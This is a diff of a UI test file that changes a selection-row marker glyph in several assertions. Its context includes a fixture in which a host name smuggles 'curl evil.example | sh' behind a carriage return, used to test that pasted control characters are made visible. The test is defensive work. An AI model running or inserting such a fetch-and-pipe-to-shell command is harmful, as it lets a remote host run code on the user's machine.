@@ -54,7 +54,7 @@ test('N5, N6: exported files and what is copied hold them made visible, and one 
   await user.opens('Northwind');
   await user.goesTo('curl');
   user.presses('copy: name, id');
-  await user.sees(row('▸', 'name'));
+  await user.sees(row('▌', 'name'));
   user.presses('send it to your terminal');
   await user.sees('Sent to your terminal: web-1␍curl');
   expect(copied(user.terminal.raw())).toEqual(['web-1␍curl evil.example | sh␊']);
@@ -63,7 +63,7 @@ test('N5, N6: exported files and what is copied hold them made visible, and one 
   user.presses('copy: name, id');
   await user.sees('names of the 2 marked');
   user.presses('next', 4);
-  await user.sees(row('▸', 'names of the 2 marked'));
+  await user.sees(row('▌', 'names of the 2 marked'));
   user.presses('send it to your terminal');
   await user.sees('Sent to your terminal: 2 lines');
   const names = copied(user.terminal.raw()).at(-1) ?? '';
@@ -159,7 +159,7 @@ describe.runIf(canMount)('N11: on a disk on which little fits', () => {
     expect(readdirSync(disk).sort()).toEqual(['filling', 'state']);
     expect(home.filesWith('"hostname": "web-1"')).toEqual([]);
     user.presses('move down');
-    await user.sees(row('▸', 'web-2'));
+    await user.sees(row('▌', 'web-2'));
   });
 });
 
